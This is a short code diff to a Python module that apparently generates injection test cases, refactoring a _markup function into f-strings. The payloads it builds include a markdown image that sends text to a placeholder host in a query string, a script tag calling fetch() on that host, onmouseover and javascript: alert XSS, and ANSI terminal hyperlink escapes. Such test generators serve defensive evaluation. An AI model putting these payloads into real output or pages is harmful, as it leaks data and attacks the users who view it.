@@ -94,12 +94,13 @@ def _chat_tags(n: int, order: Order) -> tuple[str, str]:
 
 
 def _markup(n: int, order: Order) -> tuple[str, str]:
+    site, text = f"http://{SITE}", order.text
     forms = (
-        "![{0}](http://%s/x.png?q={0})" % SITE,
-        "<script>/* {0} */fetch('http://%s')</script><b onmouseover=alert(1)>{0}.</b>" % SITE,
-        "[{0}](javascript:alert(1)) \x1b[31m{0}\x1b[0m \x1b]8;;http://%s\x07{0}\x1b]8;;\x07" % SITE,
+        f"![{text}]({site}/x.png?q={text})",
+        f"<script>/* {text} */fetch('{site}')</script><b onmouseover=alert(1)>{text}.</b>",
+        f"[{text}](javascript:alert(1)) \x1b[31m{text}\x1b[0m \x1b]8;;{site}\x07{text}\x1b]8;;\x07",
     )
-    return forms[n % 3].format(order.text), f"**{order.tag}**"
+    return forms[n % 3], f"**{order.tag}**"
 
 
 def _hidden(n: int, order: Order) -> tuple[str, str]:
